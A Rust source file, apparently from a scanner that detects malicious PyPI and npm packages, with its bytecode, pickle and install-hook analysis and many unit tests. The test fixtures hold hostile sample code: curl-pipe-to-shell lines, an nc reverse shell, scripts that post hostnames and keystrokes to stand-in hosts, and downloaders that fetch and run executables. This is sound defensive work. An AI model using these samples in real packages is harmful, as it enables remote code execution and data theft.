        idx.sort_by(|a, b| weights[*b].total_cmp(&weights[*a]).then(a.cmp(b)));
        for (k, i) in idx.iter().enumerate() {
            counted[*i] = match k {
                0 => weights[*i],
                1 => weights[*i] * 0.5,
                _ => 0.0,
            };
        }
    }
    raws.into_iter()
        .zip(counted)
        .filter_map(|(r, w)| {
            let info = rule(r.rule)?;
            let w = (w * 100.0).round() / 100.0;
            let message = format!("{} [+{}]", r.message, fmt_weight(w));
            Some((
                Finding {
                    rule: r.rule.to_string(),
                    category: info.category,
                    severity: info.severity,
                    stage: r.stage,
                    evasion: info.evasion,
                    file: r.file,
                    line: r.line,
                    snippet: r.snippet,
                    layer: r.layer,
                    message,
                },
                w,
            ))
        })
        .collect()
}

fn fmt_weight(w: f64) -> String {
    if w.fract() == 0.0 {
        format!("{w:.0}")
    } else {
        format!("{w}")
    }
}

/// Whether a file lies in a `pip` package folder (pip itself, vendored or bundled).
fn in_pip(path: &str) -> bool {
    path.split('/').rev().skip(1).any(|d| d == "pip")
}

/// Names of `co_names` that start programs: a bytecode file using one has its string
/// constants checked as commands.
const PYC_RUN_NAMES: &[&str] = &[
    "system",
    "popen",
    "Popen",
    "call",
    "check_call",
    "check_output",
    "run",
    "getoutput",
    "getstatusoutput",
    "startfile",
    "spawnl",
    "execv",
];

/// Findings from the constants of a bytecode file shipped without source: the same string,
/// URL and (when it starts programs) command rules source code gets, each rule once.
fn pyc_findings(
    path: &str,
    pyc: &pyc::PycStrings,
    scope: Scope,
    out: &mut Vec<Raw>,
    sink: &mut Sink,
) {
    let runs = pyc
        .names
        .iter()
        .any(|n| PYC_RUN_NAMES.contains(&n.as_str()));
    let mut seen: HashSet<&'static str> = HashSet::new();
    let mut add = |rule: &'static str, s: &str, msg: String, out: &mut Vec<Raw>| {
        if seen.insert(rule) {
            out.push(raw(rule, path, 0, s, msg, Some(scope)));
        }
    };
    for s in pyc.consts.iter().take(20_000) {
        if sink.strings.len() < 1 << 20 {
            sink.strings.push_str(s);
            sink.strings.push('\n');
        }
        for (rule, pat) in patterns::string_rules(s) {
            add(rule, s, format!("bytecode string names `{pat}`"), out);
        }
        if s.contains("http") || s.contains("discord") {
            for (rule, _url, what) in ext::url_rules(s) {
                add(rule, s, format!("bytecode: {what}"), out);
            }
        }
        if runs {
            for p in patterns::command_rules(s) {
                let msg = format!("bytecode command string {}: {}", p.what, model::snippet(s));
                add(p.rule, s, msg, out);
            }
        }
    }
}

/// Modules whose callables take a command line.
const PICKLE_CMD_MODULES: &[&str] = &["os", "posix", "nt", "subprocess", "commands", "pty"];

impl Analyzer {
    /// Findings of a pickle's dangerous imports; the commands and code it hands them are
    /// judged by the command and Python rules at the pickle's scope.
    fn pickle_findings(
        &self,
        path: &str,
        globals: &[pickle::Global],
        scope: Scope,
        out: &mut Vec<Raw>,
        sink: &mut Sink,
    ) {
        let mut seen: HashSet<(&'static str, String)> = HashSet::new();
        for g in globals {
            let Some(danger) = pickle::danger(g) else {
                continue;
            };
            let full = format!("{}.{}", g.module, g.name);
            let rule = match danger {
                pickle::Danger::Runs => "PKL-CODE-EXEC",
                pickle::Danger::Unsafe => "PKL-UNSAFE-GLOBAL",
            };
            let call = format!("{full}({})", g.args.first().map_or("", |a| a.as_str()));
            if seen.insert((rule, full.clone())) {
                let msg = format!("loading this pickle calls `{full}`");
                out.push(raw(rule, path, 0, &call, msg, Some(scope)));
            }
            if danger != pickle::Danger::Runs {
                continue;
            }
            let root = g.module.split('.').next().unwrap_or("");
            for a in g.args.iter().filter(|a| !a.is_empty()) {
                if sink.strings.len() < 1 << 20 {
                    sink.strings.push_str(a);
                    sink.strings.push('\n');
                }
                if PICKLE_CMD_MODULES.contains(&root) {
                    for p in patterns::command_rules(a) {
                        let msg = format!("pickle command {}: {}", p.what, model::snippet(a));
                        out.push(raw(p.rule, path, 0, a, msg, Some(scope)));
                    }
                } else {
                    // Code handed to exec / eval / compile / timeit...: analysed as Python.
                    let ctx = python::PyCtx {
                        path,
                        role: python::Role::Module,
                        top: scope,
                        func: scope,
                        layer: 1,
                        forced: Some((scope, 0)),
                        depth_left: self.cfg.max_decode_depth,
                        max_parse: self.cfg.max_parse_bytes,
                        in_pip: false,
                        called: &[],
                    };
                    python::analyze(a.as_bytes(), &ctx, sink, &mut Facts::default());
                }
            }
        }
    }
}

/// Whether the package has the source of the bytecode file `pyc`: `m.py` beside `m.pyc`,
/// or `m.py` above `__pycache__/m.cpython-311.pyc`.
fn has_source(pyc: &str, sources: &HashSet<&str>) -> bool {
    let stem = &pyc[..pyc.len() - 1];
    if sources.contains(stem) {
        return true;
    }
    let Some((dir, file)) = pyc.rsplit_once('/') else {
        return false;
    };
    let Some(parent) = dir.strip_suffix("__pycache__") else {
        return false;
    };
    let module = file.split('.').next().unwrap_or(file);
    sources.contains(format!("{parent}{module}.py").as_str())
}

/// Command findings for each line of a shell script (`what` says which script in the
/// message), placed at `scope`. Blank lines and comments (`#`, `::`, `REM`) are skipped.
fn script_commands(path: &str, data: &[u8], what: &str, scope: Scope) -> Vec<Raw> {
    let text = String::from_utf8_lossy(data);
    let mut out = Vec::new();
    for (i, line) in text.lines().enumerate().take(5000) {
        let t = line.trim();
        if t.is_empty() || t.starts_with('#') || t.starts_with("::") || t.starts_with("REM ") {
            continue;
        }
        for p in patterns::command_rules(t) {
            let msg = format!("{what} {}: {}", p.what, model::snippet(t));
            out.push(raw(p.rule, path, i as u32 + 1, t, msg, Some(scope)));
        }
    }
    out
}

fn basename(p: &str) -> &str {
    p.rsplit(['/', '!']).next().unwrap_or(p)
}

fn is_test_path(p: &str) -> bool {
    let l = p.to_ascii_lowercase();
    let segs: Vec<&str> = l.split('/').collect();
    let file = segs.last().copied().unwrap_or("");
    segs[..segs.len().saturating_sub(1)].iter().any(|s| {
        matches!(
            *s,
            "test"
                | "tests"
                | "testing"
                | "doc"
                | "docs"
                | "example"
                | "examples"
                | "benchmarks"
                | "bench"
        )
    }) || file.starts_with("test_")
        || file.ends_with("_test.py")
        || file == "conftest.py"
        || file == "noxfile.py"
}

fn guess_ecosystem(files: &[PackageFile]) -> Ecosystem {
    let mut py = false;
    let mut npm = false;
    for f in files {
        let depth = f.path.matches('/').count();
        let b = basename(&f.path);
        // A manifest, or JavaScript where no Python is (a package whose manifest was
        // lost, a bare script).
        if (depth <= 1 && b == "package.json")
            || [".js", ".mjs", ".cjs"].iter().any(|e| b.ends_with(e))
        {
            npm = true;
        }
        if b.ends_with(".py") || b == "PKG-INFO" || b == "METADATA" || b == "setup.cfg" {
            py = true;
        }
    }
    if npm && !py {
        Ecosystem::Npm
    } else {
        Ecosystem::PyPI
    }
}

/// What the files that run first (`setup.py`, `__init__.py`, `.pth` lines, an in-tree
/// build backend) import from the package, and which names they call.
#[derive(Default)]
struct LocalImports {
    /// Local modules imported while installing.
    setup: HashSet<String>,
    /// Local modules imported when the package is imported.
    init: HashSet<String>,
    /// Names called by `setup.py` (anywhere in it: its command classes run at install)
    /// and the hooks an installer calls on an in-tree backend.
    setup_calls: HashSet<String>,
    /// Names called at the top level of `__init__.py` and `.pth` lines.
    init_calls: HashSet<String>,
}

/// PEP 517 hooks an installer calls on a build backend.
const BACKEND_HOOKS: &[&str] = &[
    "build_wheel",
    "build_sdist",
    "build_editable",
    "get_requires_for_build_wheel",
    "get_requires_for_build_sdist",
    "get_requires_for_build_editable",
    "prepare_metadata_for_build_wheel",
    "prepare_metadata_for_build_editable",
];

/// Files larger than this are not searched for calls (a call name is a hint, not proof).
const MAX_CALL_SCAN_BYTES: usize = 1 << 20;

impl LocalImports {
    fn of(files: &[PackageFile]) -> LocalImports {
        let mut li = LocalImports::default();
        // Python imports these itself at every start (the `site` module).
        li.init
            .extend(["sitecustomize", "usercustomize"].map(String::from));
        for f in files {
            let b = basename(&f.path);
            let depth = f.path.matches('/').count();
            let (target, calls, top_only) = match b {
                "setup.py" if depth <= 1 => (&mut li.setup, &mut li.setup_calls, false),
                "__init__.py" => (&mut li.init, &mut li.init_calls, true),
                "pyproject.toml" if depth <= 1 => {
                    if let Some(m) = meta::in_tree_backend(&String::from_utf8_lossy(&f.data)) {
                        li.setup.insert(m);
                        li.setup_calls
                            .extend(BACKEND_HOOKS.iter().map(|h| h.to_string()));
                    }
                    continue;
                }
                _ if b.ends_with(".pth") => {
                    // Run at every interpreter start: what a .pth imports is imported then.
                    let text = String::from_utf8_lossy(&f.data);
                    for c in PTH_DUNDER_IMPORT_RE.captures_iter(&text) {
                        li.init.insert(c[1].to_ascii_lowercase());
                    }
                    (&mut li.init, &mut li.init_calls, true)
                }
                _ => continue,
            };
            imports_of(&f.data, target);
            if f.data.len() <= MAX_CALL_SCAN_BYTES {
                calls_of(&f.data, top_only, calls);
            }
        }
        li
    }

    /// Functions of a module's `data` that the files running first call: the module is
    /// imported by them and defines a function of a name they call. Sorted.
    ///
    /// (A regex pass before parsing, on the few modules the first-run files import: the
    /// result is part of the analysis cache key, so it is known before the parse.)
    fn called_in(&self, data: &[u8], by_setup: bool, by_init: bool) -> Vec<String> {
        let by_setup = by_setup && !self.setup_calls.is_empty();
        let by_init = by_init && !self.init_calls.is_empty();
        if !by_setup && !by_init {
            return Vec::new();
        }
        // The functions the module defines, read once; then kept if called.
        let text = String::from_utf8_lossy(data);
        let mut out: Vec<String> = DEF_RE
            .captures_iter(&text)
            .map(|c| c[1].to_string())
            .filter(|n| {
                by_setup && self.setup_calls.contains(n) || by_init && self.init_calls.contains(n)
            })
            .collect();
        out.sort();
        out.dedup();
        out
    }
}

/// Adds to `target` the local names that `import` / `from ... import` lines of `data` name.
fn imports_of(data: &[u8], target: &mut HashSet<String>) {
    // Only lines that start with `from` or `import` can match (a match never spans
    // lines); checking that first keeps huge one-line payloads out of the regex.
    let lines = data.split(|&b| b == b'\n').filter(|l| {
        let t = l.trim_ascii_start();
        t.starts_with(b"from") || t.starts_with(b"import")
    });
    let text: String = lines.map(|l| String::from_utf8_lossy(l) + "\n").collect();
    for c in IMPORT_RE.captures_iter(&text) {
        for g in [1, 2, 3] {
            if let Some(m) = c.get(g) {
                for part in m.as_str().split([',', ' ', '\t', '.', '(']) {
                    let p = part.trim().to_ascii_lowercase();
                    if !p.is_empty() && p != "as" && p != "import" {
                        target.insert(p);
                    }
                }
            }
        }
    }
}

/// Adds to `calls` the names called in `data` (`f(`, `mod.f(`); with `top_only`, only on
/// lines that are not indented (the top level).
fn calls_of(data: &[u8], top_only: bool, calls: &mut HashSet<String>) {
    for line in data.split(|&b| b == b'\n') {
        if top_only && line.first().is_some_and(|c| c.is_ascii_whitespace()) {
            continue;
        }
        let line = String::from_utf8_lossy(line);
        let t = line.trim_start();
        if t.starts_with("def ") || t.starts_with("class ") || t.starts_with('#') {
            continue;
        }
        for c in CALL_RE.captures_iter(&line) {
            calls.insert(c[1].to_string());
        }
    }
}

/// The first of `first` that a fact of `then` follows in the same function (or both at the
/// top level), at its line or after. (Facts of a decoded or written layer all stand at the
/// line that holds the layer, so inside a layer any order combines.)
fn followed_by<'a>(first: impl IntoIterator<Item = &'a Fact>, then: &[Fact]) -> Option<&'a Fact> {
    first
        .into_iter()
        .find(|(fid, line, ..)| then.iter().any(|(g, at, ..)| g == fid && at >= line))
}

/// Rule for a bundled binary, by extension or magic bytes.
fn binary_kind(lower_name: &str, data: &[u8]) -> Option<&'static str> {
    let ext = lower_name.rsplit_once('.').map_or("", |x| x.1);
    if matches!(ext, "exe" | "dll" | "scr" | "sys")
        || data.starts_with(b"MZ")
            && data.len() > 64
            && data.get(0x40..).is_some()
            && pe_header(data)
    {
        return Some("PKG-BINARY-PE");
    }
    if matches!(ext, "so" | "pyd" | "dylib")
        || data.starts_with(b"\x7fELF")
        || data.starts_with(&[0xcf, 0xfa, 0xed, 0xfe])
        || data.starts_with(&[0xce, 0xfa, 0xed, 0xfe])
    {
        return Some("PKG-BINARY-NATIVE");
    }
    None
}

fn pe_header(data: &[u8]) -> bool {
    let Some(off) = data.get(0x3c..0x40) else {
        return false;
    };
    let off = u32::from_le_bytes([off[0], off[1], off[2], off[3]]) as usize;
    data.get(off..off + 4) == Some(b"PE\0\0")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pf(path: &str, data: &str) -> PackageFile {
        PackageFile {
            path: path.into(),
            data: data.as_bytes().to_vec(),
        }
    }

    /// Stage and weight (the `1.2]` after `[+`) of the first finding of `rule`.
    fn hit(a: &Analyzer, files: &[PackageFile], rule: &str) -> Option<(Option<Stage>, String)> {
        let r = a.analyze(files, &[]);
        let f = r.findings.into_iter().find(|f| f.rule == rule)?;
        let weight = f.message.rsplit("[+").next().unwrap_or("").to_string();
        Some((f.stage, weight))
    }

    #[test]
    fn javascript_without_a_manifest_is_analysed_as_npm() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let recon = "const os = require('os'), https = require('https');\nconst d = JSON.stringify({h: os.hostname(), u: os.userInfo().username});\nconst req = https.request({hostname: 'x.oast.fun', method: 'POST'});\nreq.write(d);\nreq.end();\n";
        let r = a.analyze(&[pf("package/index.js", recon)], &[]);
        assert_eq!(r.ecosystem, Some(Ecosystem::Npm));
        assert!(r.findings.iter().any(|f| f.rule == "EXFIL-SEND-COLLECTED"));
        // Python beside it keeps the package on PyPI.
        let r = a.analyze(
            &[pf("p-1.0/static/app.js", recon), pf("p-1.0/setup.py", "")],
            &[],
        );
        assert_eq!(r.ecosystem, Some(Ecosystem::PyPI));
    }

    #[test]
    fn npm_install_hooks_reach_their_scripts_and_entry_point() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let report = a.analyze(
            &[
                pf(
                    "package/package.json",
                    r#"{"name":"x","version":"1.0.0","main":"lib/main.js","scripts":{"preinstall":"bash ./setup.sh && node -e \"require('child_process').exec('id')\""}}"#,
                ),
                pf("package/setup.sh", "# fetch\ncurl -s http://203.0.113.5/x | sh\n"),
                pf("package/other.sh", "curl -s http://203.0.113.5/x | sh\n"),
                pf("package/lib/main.js", "require('child_process').exec('id')\n"),
                pf("package/lib/util.js", "require('child_process').exec('id')\n"),
            ],
            &[],
        );
        let at = |rule: &str, file: &str| {
            report
                .findings
                .iter()
                .filter(|f| f.rule == rule && f.file == file)
                .map(|f| f.stage)
                .collect::<Vec<_>>()
        };
        // The hook's script: each line a command run at install; a script nobody runs: nothing.
        assert_eq!(
            at("CMD-STAGED-EXEC", "package/setup.sh"),
            vec![Some(Stage::Install)]
        );
        assert!(at("CMD-STAGED-EXEC", "package/other.sh").is_empty());
        // `node -e` code runs at install; the entry point's top level at import, fully.
        assert_eq!(
            at("JS-CHILD-PROCESS", "package/package.json"),
            vec![Some(Stage::Install)]
        );
        assert_eq!(
            at("JS-CHILD-PROCESS", "package/lib/main.js"),
            vec![Some(Stage::Import)]
        );
        // Alone, the entry point's top level counts fully, another file's a little less.
        let weight = |file: &str| {
            let pj = r#"{"name":"x","version":"1.0.0","main":"lib/main.js"}"#;
            let files = [
                pf("package/package.json", pj),
                pf(file, "require('child_process').exec('id')\n"),
            ];
            a.analyze(&files, &[]).score
        };
        assert_eq!(weight("package/lib/main.js"), 1.0);
        assert_eq!(weight("package/lib/util.js"), 0.9);
    }

    #[test]
    fn bytecode_without_source_is_read_for_strings_urls_and_commands() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let pyc = PackageFile {
            path: "p-1.0/p/__init__.pyc".into(),
            data: pyc::pyc_311(),
        };
        let report = a.analyze(&[pf("p-1.0/PKG-INFO", "Name: p\nVersion: 1.0\n"), pyc], &[]);
        let hits: Vec<(&str, Option<Stage>)> = report
            .findings
            .iter()
            .map(|f| (f.rule.as_str(), f.stage))
            .collect();
        assert!(hits.contains(&("PKG-PYC-ONLY", None)), "{hits:?}");
        // `os.system` among the names: the constant is checked as a command, at import.
        assert!(
            hits.contains(&("CMD-STAGED-EXEC", Some(Stage::Import))),
            "{hits:?}"
        );
        assert!(
            report
                .iocs
                .domains
                .iter()
                .any(|d| d == "bad.example-c2.net"),
            "{:?}",
            report.iocs
        );
    }

    #[test]
    fn a_shipped_script_the_code_starts_is_read_as_commands_run_there() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let report = |starter: &str, name: &str| {
            let files = [
                pf(
                    "package/package.json",
                    r#"{"name":"x","version":"1.0.0","main":"index.js"}"#,
                ),
                pf("package/index.js", starter),
                pf(name, "curl -s http://203.0.113.5/x | sh\n"),
            ];
            a.analyze(&files, &[])
                .findings
                .into_iter()
                .filter(|f| f.rule == "CMD-STAGED-EXEC" && f.file == name)
                .map(|f| f.stage)
                .collect::<Vec<_>>()
        };
        let js = "require('child_process').exec('/bin/bash setup.sh');\n";
        assert_eq!(report(js, "package/setup.sh"), vec![Some(Stage::Import)]);
        let bat = "require('child_process').spawn('cmd.exe', ['/c', 'run.bat']);\n";
        assert_eq!(report(bat, "package/run.bat"), vec![Some(Stage::Import)]);
        // A script nothing starts, or one of another name, is not read.
        assert!(report("module.exports = 1;\n", "package/setup.sh").is_empty());
        assert!(report(js, "package/other.sh").is_empty());
        // Python: `subprocess.call(['bash', 'x.sh'])` from setup.py runs it at install.
        let py = a.analyze(
            &[
                pf(
                    "p-1.0/setup.py",
                    "import subprocess\nsubprocess.call(['bash', 'x.sh'])\n",
                ),
                pf("p-1.0/x.sh", "curl -s http://203.0.113.5/x | sh\n"),
            ],
            &[],
        );
        assert!(py.findings.iter().any(|f| f.rule == "CMD-STAGED-EXEC"
            && f.file == "p-1.0/x.sh"
            && f.stage == Some(Stage::Install)));
    }

    #[test]
    fn repeated_findings_of_a_rule_in_a_file_are_listed_a_few_times() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let calls = "import os\n".to_string() + &"os.system('ls')\n".repeat(7);
        let report = a.analyze(&[pf("p-1.0/setup.py", &calls)], &[]);
        let listed: Vec<&Finding> = report
            .findings
            .iter()
            .filter(|f| f.rule == "PY-CMD-EXEC")
            .collect();
        assert_eq!(listed.len(), MAX_SAME_RULE_FILE);
        assert!(
            listed[2]
                .message
                .ends_with("(and 4 more like it in this file) [+0]")
        );
        // The ones that count are kept: the listed weights add up to the rule's share.
        assert!(listed[0].message.contains("[+1]") && listed[1].message.contains("[+0.5]"));
        assert_eq!(report.stats.flagged_lines, 7);
    }

    #[test]
    fn analyzer_is_send_sync() {
        fn ok<T: Send + Sync>() {}
        ok::<Analyzer>();
    }

    #[test]
    fn a_program_started_before_the_download_is_not_a_dropper() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let rules_of = |src: &str| {
            a.analyze(&[pf("p-1/p/tool.py", src)], &[])
                .findings
                .into_iter()
                .map(|f| f.rule)
                .collect::<Vec<_>>()
        };
        let fetch_and_write = "    body = urllib.request.urlopen('http://x.test/a').read()\n    \
                               open('x.bin', 'wb').write(body)\n";
        let run = "    subprocess.run(['./x.bin'])\n";
        let before = format!("import subprocess, urllib.request\ndef f():\n{run}{fetch_and_write}");
        let after = format!("import subprocess, urllib.request\ndef f():\n{fetch_and_write}{run}");
        assert!(!rules_of(&before).contains(&"DL-WRITE-EXEC".to_string()));
        assert!(rules_of(&after).contains(&"DL-WRITE-EXEC".to_string()));
    }

    #[test]
    fn code_inside_a_carried_archive_weighs_less_than_the_package_own_code() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let pth = "import base64; exec(base64.b64decode('aW1wb3J0IG9z'))\n";
        let own = a.analyze(&[pf("p-1/p.pth", pth)], &[]);
        let carried = a.analyze(&[pf("p-1/_bundled/t-1-py3-none-any.whl!/t.pth", pth)], &[]);
        let pth_weight = |r: &ScanReport| {
            r.findings
                .iter()
                .find(|f| f.rule == "PY-PTH-CODE")
                .map(|f| {
                    f.message
                        .rsplit("[+")
                        .next()
                        .unwrap()
                        .trim_end_matches(']')
                        .to_string()
                })
                .unwrap()
        };
        // Same finding, same file and line evidence, a quarter of the weight.
        assert!(own.score > 0.0 && carried.score > 0.0);
        assert!(
            (carried.score - own.score * NESTED_FACTOR).abs() < 0.01,
            "{} vs {}",
            carried.score,
            own.score
        );
        assert_ne!(pth_weight(&own), pth_weight(&carried));
        assert_eq!(own.verdict, Verdict::Malicious);
        assert_ne!(carried.verdict, Verdict::Malicious);
    }
    #[test]
    fn modules_a_pth_file_imports_run_at_start() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let module = pf("p-1/hook.py", "import os\nos.system('id')\n");
        let weight = |files: &[PackageFile]| hit(&a, files, "PY-CMD-EXEC").unwrap();
        let alone = weight(std::slice::from_ref(&module));
        for pth in ["import hook\n", "import os; __import__('hook').go()\n"] {
            let hooked = weight(&[module.clone(), pf("p-1/p.pth", pth)]);
            assert_eq!(hooked.0, Some(Stage::Import));
            assert_ne!(alone.1, hooked.1, "{pth}");
        }
    }

    #[test]
    fn functions_that_setup_py_calls_in_a_test_module_run_at_install() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let helper = pf(
            "p-1/tests/helper.py",
            "import socket, requests\ndef check():\n    requests.post('https://x.test/e', data=socket.gethostname())\n",
        );
        let stage_of = |setup: &str| {
            let r = a.analyze(&[pf("p-1/setup.py", setup), helper.clone()], &[]);
            let f = r.findings.iter().find(|f| f.rule == "EXFIL-SEND-COLLECTED");
            (f.and_then(|f| f.stage), r.verdict)
        };
        let called =
            "from tests import helper\nhelper.check()\nfrom setuptools import setup\nsetup()\n";
        assert_eq!(stage_of(called), (Some(Stage::Install), Verdict::Malicious));
        // Imported but not called: the function body runs only if something calls it.
        let (stage, verdict) =
            stage_of("from tests import helper\nfrom setuptools import setup\nsetup()\n");
        assert_eq!(stage, Some(Stage::Runtime));
        assert_ne!(verdict, Verdict::Malicious);
    }

    #[test]
    fn an_in_tree_build_backend_runs_at_install() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let backend = pf(
            "p-1/_build/backend.py",
            "import os\ndef build_wheel(d, c=None, m=None):\n    os.system('id')\n",
        );
        let stage_of = |pyproject: &str| {
            let files = [pf("p-1/pyproject.toml", pyproject), backend.clone()];
            hit(&a, &files, "PY-CMD-EXEC").and_then(|h| h.0)
        };
        let in_tree =
            "[build-system]\nrequires=[]\nbuild-backend='backend'\nbackend-path=['_build']\n";
        assert_eq!(stage_of(in_tree), Some(Stage::Install));
        let external =
            "[build-system]\nrequires=['setuptools']\nbuild-backend='setuptools.build_meta'\n";
        assert_eq!(stage_of(external), Some(Stage::Runtime));
    }

    #[test]
    fn a_shipped_sitecustomize_runs_at_every_start() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let src = "import os\nos.system('id')\n";
        let weight = |path: &str| hit(&a, &[pf(path, src)], "PY-CMD-EXEC").map(|h| h.1);
        assert_ne!(weight("p-1/sitecustomize.py"), weight("p-1/other.py"));
        assert_eq!(weight("p-1/sitecustomize.py"), weight("p-1/p/__init__.py"));
    }

    #[test]
    fn test_code_adds_to_the_score_but_is_never_the_strong_evidence() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let body = "import os, base64, socket, subprocess\n\
                    os.system('curl http://x.test/a | sh')\n\
                    exec(base64.b64decode('cHJpbnQoMSk='))\n\
                    s = socket.socket(); s.connect(('x.test', 4444))\n\
                    subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\n\
                    os.system('nc -e /bin/sh x.test 4444')\n";
        let at = |path: &str| a.analyze(&[pf(path, body)], &[]);
        assert_eq!(at("p-1/p/run.py").verdict, Verdict::Malicious);
        let t = at("p-1/tests/test_run.py");
        assert!(t.score > 0.0);
        assert_ne!(t.verdict, Verdict::Malicious, "{t:?}");
    }

    #[test]
    fn running_a_downloaded_python_file_with_runpy_is_drop_and_run() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let rules_of = |run: &str| {
            let src = format!(
                "import runpy, urllib.request\nurllib.request.urlretrieve('http://x.test/a.py', 'a.py')\n{run}\n"
            );
            a.analyze(&[pf("p-1/setup.py", &src)], &[])
                .findings
                .into_iter()
                .map(|f| f.rule)
                .collect::<Vec<_>>()
        };
        assert!(rules_of("runpy.run_path('a.py')").contains(&"DL-WRITE-EXEC".to_string()));
        assert!(!rules_of("print('a.py')").contains(&"DL-WRITE-EXEC".to_string()));
    }

    #[test]
    fn a_download_written_into_an_autostart_place_is_drop_and_run() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let pkg = |dir: &str| {
            vec![pf(
                "p-1/p/dl.py",
                &format!(
                    "import os, requests\ndef fetch(url, name):\n    p = os.path.join(os.path.expanduser('{dir}'), name)\n    r = requests.get(url)\n    with open(p, 'wb') as f:\n        f.write(r.content)\n"
                ),
            )]
        };
        let startup = pkg(
            "~\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup",
        );
        assert!(hit(&a, &startup, "DL-WRITE-EXEC").is_some());
        assert!(hit(&a, &pkg("~/Downloads"), "DL-WRITE-EXEC").is_none());
    }

    #[test]
    fn a_staged_program_downloaded_and_run_by_helper_functions_is_drop_and_run() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let py = |url: &str| {
            let src = format!(
                "import os, requests, subprocess\ndef fetch(url, d):\n    p = os.path.join(d, 'a.exe')\n    with open(p, 'wb') as f:\n        f.write(requests.get(url).content)\n    return p\ndef run(p):\n    subprocess.Popen(p, shell=True)\ndef main():\n    run(fetch('{url}', os.getenv('APPDATA')))\n"
            );
            vec![pf("p-1/p/cli.py", &src)]
        };
        let staged = py("https://cdn.discordapp.com/attachments/1/2/MinGCC-x64.exe?ex=1&");
        assert!(hit(&a, &staged, "DL-WRITE-EXEC").is_some());
        // The same helpers fetching a vendor's installer, or a file-sharing URL that is no
        // program, are what installers and model downloaders do.
        let vendor = py("https://www.python.org/ftp/python/3.12.0/python-3.12.0-amd64.exe");
        assert!(hit(&a, &vendor, "DL-WRITE-EXEC").is_none());
        let data = py("https://storage.googleapis.com/models/weights.h5");
        assert!(hit(&a, &data, "DL-WRITE-EXEC").is_none());
        // JavaScript: the URL in one function, the write and the run in others.
        let js = vec![
            pf(
                "package/package.json",
                r#"{"name":"p","version":"1.0.0","main":"index.js"}"#,
            ),
            pf(
                "package/index.js",
                "const https = require('https'), fs = require('fs'), cp = require('child_process');\nfunction get(u, p, cb) { https.get(u, r => { r.pipe(fs.createWriteStream(p)).on('finish', cb); }); }\nfunction start(p) { cp.exec(p); }\nmodule.exports = () => get('http://45.61.12.9/update.exe', 'u.exe', () => start('u.exe'));\n",
            ),
        ];
        assert!(hit(&a, &js, "DL-WRITE-EXEC").is_some());
    }

    #[test]
    fn keystrokes_captured_in_a_file_that_uploads_are_a_keylogger() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let pkg = |body: &str| {
            vec![pf(
                "p-1/p/keys.py",
                &format!(
                    "from pynput import keyboard\nimport requests\nbuf = []\ndef on_press(k):\n    buf.append(str(k))\n{body}\nkeyboard.Listener(on_press=on_press).start()\n"
                ),
            )]
        };
        let sent = pkg("    requests.post('https://x.test/k', data=''.join(buf))");
        assert!(hit(&a, &sent, "EXFIL-SEND-COLLECTED").is_some());
        // A hotkey tool that only checks for updates sends nothing.
        let fetch = pkg("    requests.get('https://x.test/version')");
        assert!(hit(&a, &fetch, "EXFIL-SEND-COLLECTED").is_none());
    }

    #[test]
    fn cloning_a_repository_then_running_a_script_is_drop_and_run() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        let init = |then: &str| {
            let src = format!(
                "import os, subprocess, tempfile\nd = tempfile.mkdtemp()\nsubprocess.call(['git', 'clone', '-q', 'https://github.com/x/helper', d])\n{then}\n"
            );
            vec![pf("p-1/p/__init__.py", &src)]
        };
        let run = init("subprocess.Popen(['python', os.path.join(d, 'main.py')])");
        assert_eq!(
            hit(&a, &run, "DL-WRITE-EXEC").map(|h| h.0),
            Some(Some(Stage::Import))
        );
        // Building what was cloned, a script started before the clone, or a clone and its
        // generator run by setup.py (a build step) is not.
        let setup = vec![pf(
            "p-1/setup.py",
            "import subprocess, sys\nsubprocess.check_call(['git', 'clone', 'https://github.com/x/gen', 'third_party/gen'])\nsubprocess.check_call([sys.executable, 'third_party/gen/gen.py'])\n",
        )];
        assert!(hit(&a, &setup, "DL-WRITE-EXEC").is_none());
        assert!(
            hit(
                &a,
                &init("subprocess.call(['make', '-C', d])"),
                "DL-WRITE-EXEC"
            )
            .is_none()
        );
        let before = vec![pf(
            "p-1/p/__init__.py",
            "import subprocess\nsubprocess.call(['python', 'a.py'])\nsubprocess.call(['git', 'clone', 'https://x.test/r', 'r'])\n",
        )];
        assert!(hit(&a, &before, "DL-WRITE-EXEC").is_none());
        // Inside a decoded layer, where every fact stands at the line of the exec.
        let layer = vec![pf(
            "p-1/p/__init__.py",
            "import base64\nexec(base64.b64decode('aW1wb3J0IHN1YnByb2Nlc3MKc3VicHJvY2Vzcy5jYWxsKFsnZ2l0JywgJ2Nsb25lJywgJy1xJywgJ2h0dHBzOi8veC50ZXN0L3InLCAnL3RtcC9yJ10pCnN1YnByb2Nlc3MuY2FsbChbJ3B5dGhvbjMnLCAnL3RtcC9yL3J1bi5weSddKQo='))\n",
        )];
        assert!(hit(&a, &layer, "DL-WRITE-EXEC").is_some());
    }

    #[test]
    fn a_script_written_line_by_line_is_analysed_whole_with_its_combinations() {
        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
        // Each write alone is a fragment; together they download a script and run it.
